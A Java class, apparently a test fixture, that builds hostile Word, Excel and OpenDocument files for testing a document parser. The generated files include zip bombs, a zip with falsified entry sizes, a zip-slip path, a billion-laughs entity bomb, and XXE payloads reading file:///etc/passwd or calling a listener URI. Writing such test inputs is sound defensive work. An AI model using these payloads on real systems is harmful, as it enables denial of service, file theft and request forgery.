package dk.tingsted;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URI;
import java.util.List;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/// Word, Excel and OpenDocument that mean harm: ZIP files with XML in them.
final class HostilePackages {

    private static final String FORMATS = "http://schemas.openxmlformats.org/";
    private static final String RELATIONSHIPS = FORMATS + "package/2006/relationships";
    private static final String KINDS = FORMATS + "officeDocument/2006/relationships/";
    private static final String W = "xmlns:w=\"" + FORMATS + "wordprocessingml/2006/main\"";
    private static final String SHEET = "xmlns=\"" + FORMATS + "spreadsheetml/2006/main\"";
    private static final String ODT = "application/vnd.oasis.opendocument.text";

    private final URI listener;

    /// One part.
    ///
    /// @param times that the words are repeated
    private record Part(String name, String words, int times) {
        Part(String name, String words) {
            this(name, words, 1);
        }
    }

    HostilePackages(URI listener) {
        this.listener = listener;
    }

    /// Tens of thousands of times as large when it is opened.
    byte[] wordThatSwells(int megabytes) throws IOException {
        return word(new Part("word/document.xml", filling(), megabytes));
    }

    byte[] sheetThatSwells(int megabytes) throws IOException {
        return sheet(new Part("xl/sharedStrings.xml", filling(), megabytes));
    }

    byte[] textThatSwells(int megabytes) throws IOException {
        return text(new Part("content.xml", filling(), megabytes));
    }

    byte[] wordOf(String document) throws IOException {
        return word(new Part("word/document.xml", document));
    }

    byte[] sheetOf(String strings) throws IOException {
        return sheet(new Part("xl/sharedStrings.xml", strings));
    }

    byte[] textOf(String content) throws IOException {
        return text(new Part("content.xml", content));
    }

    byte[] wordThatLeadsOut(String kind) throws IOException {
        return word(
                new Part("word/document.xml", document("10.00 Velkomst")),
                new Part(
                        "word/_rels/document.xml.rels",
                        relations(relation("1", kind, listener + "\" TargetMode=\"External"))));
    }

    byte[] wordOfManyParts(int many) throws IOException {
        var bytes = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(bytes)) {
            for (int n = 0; n < many; n++) {
                put(zip, new Part("word/part" + n + ".xml", "<a/>"));
            }
        }
        return bytes.toByteArray();
    }

    byte[] outOfTheFolder() throws IOException {
        return zip(List.of(new Part("../../../../tmp/tingsted-was-here", "x")));
    }

    /// Its list of what is in it says that the text is short.
    byte[] wordThatLies() throws IOException {
        var bytes = wordThatSwells(40);
        for (int at = bytes.length - 46; at > 0; at--) {
            if (bytes[at] == 'P' && bytes[at + 1] == 'K' && bytes[at + 2] == 1) {
                bytes[at + 24] = 9;
                bytes[at + 25] = bytes[at + 26] = bytes[at + 27] = 0;
            }
        }
        return bytes;
    }

    byte[] sheetOfRows(int many) throws IOException {
        var cell = "<c t=\"inlineStr\"><is><t>ida@oestby.dk</t></is></c>";
        return sheet(
                new Part("xl/sharedStrings.xml", "<sst " + SHEET + "/>"),
                new Part("xl/rows.xml", "<row>" + cell + cell + "</row>", many));
    }

    static String laughing(String root) {
        var all = new StringBuilder("<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a0 \"ha\">");
        for (int n = 1; n < 30; n++) {
            all.append("<!ENTITY a%d \"&a%d;&a%d;&a%d;\">".formatted(n, n - 1, n - 1, n - 1));
        }
        return all + "]><" + root + " " + W + ">&a29;</" + root.split(" ", 2)[0] + ">";
    }

    String fetching(String root) {
        return """
        <?xml version="1.0"?><!DOCTYPE x SYSTEM "%1$s" [<!ENTITY %% p SYSTEM "%1$s"> %%p;
        <!ENTITY e SYSTEM "%1$s"><!ENTITY f SYSTEM "file:///etc/passwd">]>
        <%2$s %3$s>&e;&f;</%2$s>\
        """
                .formatted(listener, root, W);
    }

    static String document(String words) {
        return "<w:document %s><w:body><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body></w:document>"
                .formatted(W, words);
    }

    private static String filling() {
        return "<a>" + " ".repeat((1 << 20) - 7) + "</a>";
    }

    private byte[] word(Part... parts) throws IOException {
        return office("word/document.xml", "wordprocessingml.document.main", List.of(parts));
    }

    private byte[] sheet(Part strings, Part... rows) throws IOException {
        var first =
                "<workbook %s xmlns:r=\"%sofficeDocument/2006/relationships\"><sheets><sheet name=\"a\" sheetId=\"1\" r:id=\"r1\"/></sheets></workbook>"
                        .formatted(SHEET, FORMATS);
        var one =
                rows.length > 0
                        ? rows[0].words.repeat(rows[0].times)
                        : "<row><c t=\"s\"><v>0</v></c></row>";
        var parts =
                List.of(
                        new Part("xl/workbook.xml", first),
                        new Part(
                                "xl/_rels/workbook.xml.rels",
                                relations(
                                        relation("1", "worksheet", "s.xml"),
                                        relation("2", "sharedStrings", "sharedStrings.xml"))),
                        new Part(
                                "xl/s.xml",
                                "<worksheet %s><sheetData>%s</sheetData></worksheet>"
                                        .formatted(SHEET, one)),
                        strings);
        return office("xl/workbook.xml", "spreadsheetml.sheet.main", parts);
    }

    private byte[] text(Part content) throws IOException {
        return zip(List.of(new Part("mimetype", ODT), content));
    }

    private byte[] office(String main, String kind, List<Part> parts) throws IOException {
        var type = "application/vnd.openxmlformats-officedocument." + kind + "+xml";
        var types =
                """
                <Types xmlns="%spackage/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>
                <Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
                <Override PartName="/%s" ContentType="%s"/></Types>\
                """
                        .formatted(FORMATS, main, type);
        var all = new java.util.ArrayList<Part>();
        all.add(new Part("[Content_Types].xml", types));
        all.add(new Part("_rels/.rels", relations(relation("1", "officeDocument", main))));
        all.addAll(parts);
        return zip(all);
    }

    private static String relations(String... all) {
        return "<Relationships xmlns=\"%s\">%s</Relationships>"
                .formatted(RELATIONSHIPS, String.join("", all));
    }

    private static String relation(String id, String kind, String target) {
        return "<Relationship Id=\"r%s\" Type=\"%s\" Target=\"%s\"/>"
                .formatted(id, KINDS + kind, target);
    }

    private static byte[] zip(List<Part> parts) throws IOException {
        var bytes = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(bytes)) {
            zip.setLevel(Deflater.BEST_COMPRESSION);
            for (var part : parts) {
                put(zip, part);
            }
        }
        return bytes.toByteArray();
    }

    private static void put(ZipOutputStream zip, Part part) throws IOException {
        zip.putNextEntry(new ZipEntry(part.name));
        var words = part.words.getBytes(UTF_8);
        for (int n = 0; n < part.times; n++) {
            zip.write(words);
        }
        zip.closeEntry();
    }
}
